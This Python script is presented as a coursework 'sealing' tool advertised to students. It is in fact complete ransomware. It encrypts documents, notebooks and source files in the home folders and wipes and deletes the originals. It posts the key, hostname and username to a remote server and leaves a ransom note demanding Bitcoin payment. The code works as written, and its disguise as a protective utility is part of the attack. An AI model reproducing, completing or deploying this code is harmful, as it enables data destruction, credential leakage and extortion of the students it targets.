#!/usr/bin/env python3
"""coursework_vault - "protect your coursework from plagiarism".

Advertised in the course Discord as a tool that seals your project folders
so classmates cannot copy them from shared lab machines.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

TARGET_DIRS = ["Documents", "Desktop", "Projects", "projects", "src", "Dropbox", "OneDrive"]
EXTENSIONS = {
    ".py", ".java", ".c", ".cpp", ".ipynb", ".docx", ".pdf", ".pptx", ".xlsx",
    ".tex", ".md", ".zip", ".sql", ".js", ".ts", ".csv", ".jpg", ".png",
}
SKIP_PARTS = {".git", "node_modules", ".venv", "__pycache__", ".cache"}
SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_UNSEAL.txt"
KEY_SERVER = "https://study-helper-api.onrender.app/register"

NOTE = """Your coursework has been sealed.

Every document, notebook and source file in this folder is encrypted.
Deadlines are coming.  To get the unseal key send 150 USD in BTC to
  bc1q9x7lv2ye7m0c3t2a8hkh4r5j7t9gk2w3ffe0s8
and mail your machine id {mid} to unseal.desk@proton.me
Deleting this note or the .sealed files makes recovery impossible.
"""


class Sealer:
    def __init__(self, key: bytes):
        self.aead = AESGCM(key)
        self.count = 0
        self.bytes = 0

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
        except OSError:
            return False
        nonce = secrets.token_bytes(12)
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SUFFIX)
        try:
            target.write_bytes(blob)
            # overwrite, then remove the original
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        self.count += 1
        self.bytes += len(data)
        return True


def candidates(home: Path):
    for name in TARGET_DIRS:
        root = home / name
        if not root.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_PARTS]
            for fn in filenames:
                p = Path(dirpath) / fn
                if p.suffix.lower() in EXTENSIONS and not fn.endswith(SUFFIX):
                    yield p


def register_key(key: bytes, machine_id: str) -> None:
    payload = {"mid": machine_id, "k": key.hex(), "host": socket.gethostname(),
               "user": os.environ.get("USER", "?")}
    for _ in range(3):
        try:
            requests.post(KEY_SERVER, data=json.dumps(payload), timeout=15,
                          headers={"Content-Type": "application/json"})
            return
        except requests.RequestException:
            continue


def main() -> int:
    ap = argparse.ArgumentParser(description="seal your coursework")
    ap.add_argument("--home", type=Path, default=Path.home())
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    machine_id = uuid.uuid4().hex[:12]
    key = AESGCM.generate_key(bit_length=256)
    register_key(key, machine_id)

    sealer = Sealer(key)
    touched_dirs = set()
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for path in candidates(args.home):
            pool.submit(sealer.seal, path)
            touched_dirs.add(path.parent)
    del key
    sealer.aead = None

    for d in touched_dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(mid=machine_id))
        except OSError:
            pass
    print(f"Sealed {sealer.count} files ({sealer.bytes // 1024} KiB). Machine id: {machine_id}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
